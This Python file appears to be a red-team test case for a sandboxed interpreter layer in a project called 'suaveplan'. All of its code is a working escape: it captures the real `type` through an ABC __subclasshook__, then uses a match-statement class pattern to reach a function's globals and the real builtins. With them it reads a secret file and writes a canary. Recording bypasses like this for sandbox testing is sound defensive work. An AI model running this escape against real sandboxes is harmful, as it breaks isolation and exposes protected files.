# mypy: ignore-errors
# Technique: ABCMeta calls a plugin ABC's `__subclasshook__(C)` with the class being checked,
# so `isinstance(int, Probe)` handed the hook the real `type` (which the guarded `type()`
# refuses): its three-argument call then built an ABC with `__match_args__ = ("__globals__",)`
# and a class pattern read a runtime function's globals, with the real builtins. Found in the
# fifth red-team pass of the in-interpreter layer.
import typing

from suaveplan import fs

seen = []


class Probe(typing.Hashable):
    @classmethod
    def __subclasshook__(cls, c):
        seen.append(c)
        return True


def attack(secret_path, canary_path):
    isinstance(int, Probe)
    real_type = seen[-1]
    u = "_" * 2
    hook = classmethod(lambda cls, c: True)
    any_ = real_type(
        "Any", (Probe,), {u + "match_args" + u: (u + "globals" + u,), u + "subclasshook" + u: hook}
    )
    match fs.read_text:
        case any_(g):
            b = g["_b"]
            print("SANDBOX-" + "ESCAPED")
            out = [b.open(secret_path).read()]
            b.open(canary_path, "w").write("x")
            return out
    return "no match"
